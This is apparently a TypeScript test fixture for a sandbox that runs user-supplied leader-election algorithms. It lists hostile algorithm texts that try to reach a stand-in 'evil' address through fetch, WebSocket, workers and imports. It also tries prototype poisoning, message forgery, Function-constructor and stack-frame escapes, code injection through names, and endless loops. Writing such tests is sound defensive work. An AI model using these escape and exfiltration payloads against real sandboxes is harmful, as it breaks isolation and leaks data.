/** A text for the page that tries to do harm, and what the page says. */
export interface PageText {
  readonly name: string;
  readonly text: string;
  /** A part of the sentence with which the page refuses the text; without it, the text is an election that runs. */
  readonly refused?: string;
  /** True if the text never ends, so that the reader stops it. */
  readonly endless?: true;
}

/**
 * Returns an election that runs `attempts` when the text is loaded and once in a handler. Each attempt may fail, and
 * `evil`, an address that must get no request, is given to all.
 */
const election = (evil: string, ...attempts: readonly string[]): string => `
import { algorithm, id } from "@ringleader/core";
import * as core from "@ringleader/core";
const evil = ${JSON.stringify(evil)};
const attempts = [
${attempts.map((attempt) => `  (me) => { ${attempt} },`).join("\n")}
];
function attack(me) {
  for (const attempt of attempts) try { attempt(me); } catch {}
}
attack();
let isOver = false;
export default algorithm({
  name: "hostile", paper: "none", idea: "The largest id returns.",
  needs: { ring: true, direction: true, ids: true, everyone: true },
  elects: "max", announces: false, state: {}, messages: { token: { id } },
  wake(me) {
    if (!isOver) { isOver = true; attack(me); }
    me.send.token({ id: me.id });
  },
  on: {
    token(me, { id }) {
      if (id > me.id) me.send.token({ id });
      if (id === me.id) me.lead();
    },
  },
});`;

/** Expressions for objects that could lead to the global object. */
const globals = ["globalThis", "self", "this", "(0, eval)('this')", "Function('return this')()"];
const anyGlobal = (use: string): string[] => globals.map((it) => `const g = ${it}; ${use}`);

/** Attempts to reach the address `evil`, for code that has the global object `g`. */
export const requests = [
  "g.fetch(evil + 'fetch', { mode: 'no-cors' }).catch(() => {});",
  "const r = new g.XMLHttpRequest(); r.open('GET', evil + 'xhr'); r.send();",
  "new g.WebSocket(evil.replace('http', 'ws') + 'socket');",
  "new g.WebTransport(evil.replace('http', 'https') + 'transport');",
  "new g.EventSource(evil + 'events');",
  "g.importScripts(evil + 'script');",
  "g.navigator.sendBeacon(evil + 'beacon', 'x');",
  "new g.Worker(evil + 'worker'); ",
  "new g.SharedWorker(evil + 'shared');",
  "new g.Worker(g.URL.createObjectURL(new g.Blob(['fetch(' + JSON.stringify(evil + 'nested') + ')'])));",
];

/** Attempts to store something, or to tell another page. */
const stores = [
  "g.indexedDB.open('hostile');",
  "g.caches.open('hostile');",
  "g.localStorage.setItem('hostile', '1');",
  "g.cookieStore.set('hostile', '1');",
  "new g.BroadcastChannel('hostile').postMessage('hello');",
  "g.navigator.storage.getDirectory().then((it) => it.getFileHandle('hostile', { create: true }));",
];

/** Code that runs in the global scope, where the global object is not refused. */
const inScope = (uses: readonly string[], evil: string): string =>
  `const g = globalThis, evil = ${JSON.stringify(evil)}; ${uses.map((use) => `try { ${use} } catch {}`).join(" ")}`;

const byCompiler = (uses: readonly string[], evil: string): string[] =>
  [
    "(() => {}).constructor.constructor",
    "attack.constructor",
    "(function* () {}).constructor",
    "(async () => {}).constructor",
    "(async function* () {}).constructor",
    "me.constructor.constructor",
    "me.send.token.constructor",
    "core.run.constructor",
    "Reflect.getPrototypeOf(() => {}).constructor",
    "Object.getOwnPropertyDescriptor(Function.prototype, 'constructor').value",
  ].map((it) => {
    const code = inScope(uses, evil);
    return `const made = ${it}(${JSON.stringify(code)})(); made?.next?.();`;
  });

/** Lists the hostile texts. `evil` is an address that must get no request. */
export const pageTexts = (evil: string): readonly PageText[] => [
  {
    name: "poison",
    text: election(
      evil,
      "const { imul } = Math; Math.imul = (a, b) => imul(a, b) ^ 1;",
      "Object.defineProperty(Math, 'imul', { value: () => 1 });",
    ),
  },
  {
    name: "prototypes",
    text: election(
      evil,
      "Array.prototype.push = () => 0;",
      "Array.prototype[Symbol.iterator] = function* () {};",
      "Uint32Array.prototype.fill = () => {};",
      "Map.prototype.get = () => undefined;",
      "Object.prototype.toString = () => 'x';",
      "Object.setPrototypeOf(Object.prototype, new Proxy({}, {}));",
      "Promise.prototype.then = () => {};",
      "String.prototype.padStart = () => '0123456789abcdef';",
      "Number.prototype.toString = () => '0';",
    ),
  },
  {
    name: "forger",
    text: election(
      evil,
      ...anyGlobal("g.postMessage({ type: 'RAW', value: { kind: 'shown', digest: '0' } });"),
      ...anyGlobal(
        "const post = g.postMessage; g.postMessage = (it, to) => post({ ...it, value: { kind: 'shown' } }, to);",
      ),
      ...anyGlobal("g.onmessage = () => {}; g.addEventListener('message', () => {});"),
      ...anyGlobal("g.close();"),
    ),
  },
  { name: "network", text: election(evil, ...requests.flatMap(anyGlobal)) },
  {
    name: "imports",
    text: election(
      evil,
      "import(evil + 'module').catch(() => {});",
      "import(/* a */ evil + 'module').catch(() => {});",
      "import('data:text/javascript,fetch(' + JSON.stringify(evil + 'data') + ')').catch(() => {});",
    ),
    refused: "import() is not available to an algorithm.",
  },
  { name: "modules", text: election(evil, "require(evil + 'required');") },
  { name: "storage", text: election(evil, ...stores.flatMap(anyGlobal)) },
  {
    name: "timers",
    text: election(
      evil,
      ...["setTimeout", "setInterval", "queueMicrotask", "requestAnimationFrame"].flatMap((it) => [
        `${it}(() => { for (;;); }, 0);`,
        ...anyGlobal(`g.${it}(() => { for (;;); }, 0);`),
      ]),
    ),
  },
  {
    name: "compilers",
    text: election(
      evil,
      ...byCompiler([...requests, ...stores], evil),
      ...globals.slice(3).map((it) => `${it};`),
    ),
  },
  {
    name: "shared memory",
    text: election(
      evil,
      "new SharedArrayBuffer(8);",
      ...anyGlobal("new g.SharedArrayBuffer(8); g.Atomics.wait(new Int32Array(8), 0, 0);"),
      ...anyGlobal("new g.WebAssembly.Memory({ initial: 1, maximum: 2, shared: true });"),
    ),
  },
  {
    name: "stack frames",
    text: election(
      evil,
      "Error.prepareStackTrace = (_, sites) => sites[0].getThis().fetch(evil + 'frame'); new Error().stack;",
      "const it = {}; Error.captureStackTrace(it); it.stack[0].getFunction().constructor('fetch(' + JSON.stringify(evil) + ')')();",
      "attack.caller.constructor('1')();",
    ),
  },
  {
    name: "library",
    text: election(
      evil,
      "core.catalogue.length = 0;",
      "core.catalogue[0].with = () => null;",
      "core.run = () => ({});",
      "core.Refusal.prototype.message = 'x';",
      "core.id.max = 0;",
    ),
  },
  {
    name: "thenable",
    text: `${election(evil)}
export const then = (fulfil) => fulfil({ name: "x", parameters: {}, with: () => ({}) });`,
  },
  {
    name: "names as code",
    text: `
import { algorithm, id } from "@ringleader/core";
const code = ${JSON.stringify(`token[(() => { ${inScope([...requests, ...stores], evil)} })()]`)};
const honest = algorithm({
  name: "code", paper: "", idea: "", needs: { ring: true, direction: true, ids: true },
  announces: false, state: {}, messages: { token: { id } }, wake() {}, on: { token() {} },
});
export default { ...honest, messages: { [code]: { id } } };`,
    refused: "cannot be the name of a",
  },
  {
    name: "a way out of the function",
    text: `${election(evil)}\n}); ${inScope([...requests, ...stores], evil)} (function () {`,
    refused: "Line",
  },
  {
    name: "chance",
    text: election(evil).replace(
      "me.send.token({ id: me.id });",
      "me.send.token({ id: Math.floor(Math.random() * 9) });",
    ),
    refused:
      "Math.random is not available to an algorithm; needs.coins and me.toss give reproducible chance",
  },
  {
    name: "time",
    text: election(evil).replace(
      "me.send.token({ id: me.id });",
      "me.send.token({ id: new Date() % 9 });",
    ),
    refused:
      "Date is not available to an algorithm; needs.rounds and me.alarm give reproducible time",
  },
  {
    name: "long texts",
    text: election(evil).replace('"The largest id returns."', '"x".repeat(1e8)'),
    refused: "idea: xxx",
  },
  {
    name: "a long error",
    text: `throw new Error("x".repeat(1e8));\n${election(evil)}`,
    refused: "xxx…",
  },
  {
    name: "an error that cannot be shown",
    text: `throw { toString() { throw null; } };\n${election(evil)}`,
    refused: "the text throws a value that cannot be shown",
  },
  { name: "a loop at the top", text: `for (;;);\n${election(evil)}`, endless: true },
  {
    name: "a loop in a handler",
    text: election(evil).replace("if (id > me.id)", "for (;;);\nif (id > me.id)"),
    endless: true,
  },
  {
    name: "promises without end",
    text: `const again = () => Promise.resolve().then(again);\nagain();\n${election(evil)}`,
    endless: true,
  },
  {
    name: "memory",
    text: `const all = [];\nfor (;;) all.push(new Array(1000).fill(all.length));\n${election(evil)}`,
    endless: true,
  },
];
